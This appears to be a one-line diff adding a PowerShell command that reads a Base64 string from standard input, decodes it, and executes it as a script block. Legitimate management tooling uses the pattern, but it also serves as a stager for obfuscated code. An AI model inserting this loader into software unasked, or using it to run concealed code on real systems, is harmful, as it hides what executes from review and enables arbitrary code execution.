@@ -1,0 +1,1 @@
+$i=New-Object IO.StreamReader([Console]::OpenStandardInput(),(New-Object Text.UTF8Encoding $false));.([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($i.ReadLine()))))
